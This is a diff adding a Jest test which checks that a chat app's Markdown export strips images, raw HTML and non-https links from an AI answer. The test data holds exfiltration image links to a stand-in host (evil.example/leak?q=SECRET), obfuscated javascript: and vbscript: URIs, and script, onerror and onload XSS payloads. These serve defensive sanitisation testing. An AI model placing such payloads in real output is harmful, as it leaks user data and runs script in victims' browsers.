@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, beforeEach, expect, jest, test } from '@jest/globals';
+import { marked } from 'marked';
 import { extractText, getDocumentProxy } from 'unpdf';
 import type { ChatAnswer } from '../../contract/chat.ts';
 import type { ErrorBody } from '../../contract/error-body.ts';
@@ -175,4 +176,53 @@ test('contains the messages with people', async () => {
   );
   const text = (await extractText(pdf, { mergePages: true })).text.replaceAll(/\s+/g, '');
   expect(text.indexOf('已经发货*1*')).toBeGreaterThan(text.indexOf('请帮我查一下'));
+});
+
+test('Markdown of an answer has no pictures, no HTML and no links that are more than an address', async () => {
+  const answer = [
+    'See ![pic](https://evil.example/leak?q=SECRET) and ![t][r], [click](javascript:alert(1)), [d](data:text/html,x),',
+    '[e](java&Tab;script:alert), [f](javascript&#58;alert(1)), [g](<javascript:alert(1)>), [h](\njavascript:alert(1)), [i][r],',
+    '\\\\![double](https://evil.example), [![in](https://evil.example/i.png)](https://a.example),',
+    '<img src=x onerror=alert(1)> <script>alert(1)</script> <https://evil.example/auto> a < b [ok](https://ok.example) `<b>` [1]',
+    '',
+    '[r]: https://evil.example/r "t"',
+    '',
+    '<div>',
+    '```',
+    '</div>',
+    '',
+    '```html',
+    '<iframe src=javascript:alert(1)>',
+    '```',
+    '',
+    '> ![quoted](https://evil.example/q)',
+    '',
+    '- ```',
+    '  ![item](https://evil.example/l)',
+    '  ```',
+    '- ![item](https://evil.example/m)',
+    '',
+    '| ![cell](https://evil.example/c) | <svg/onload=alert(1)> |',
+    '|---|---|',
+    '| x | [y](vbscript:x) |',
+    '',
+    '```',
+    '![open](https://evil.example/open)',
+  ].join('\n');
+  answerer.script = async function* () {
+    yield { kind: 'text', text: answer };
+    yield final;
+  };
+  const { conversationId } = await ask('one');
+  const text = await (await get(conversationId, 'format=markdown&tz=UTC')).text();
+
+  const live: string[] = [];
+  void marked.walkTokens(marked.lexer(text), (token) => {
+    if (token.type === 'image' || token.type === 'html') live.push(token.raw);
+    if (token.type === 'link' && !/^https:/.test(token.href)) live.push(token.raw);
+  });
+  expect(live).toEqual([]);
+  expect(text).toContain('[ok](https://ok.example) `<b>` [1]');
+  expect(text).toContain('Handbook');
+  expect(marked.lexer(text).at(-1)?.type).not.toBe('code');
 });
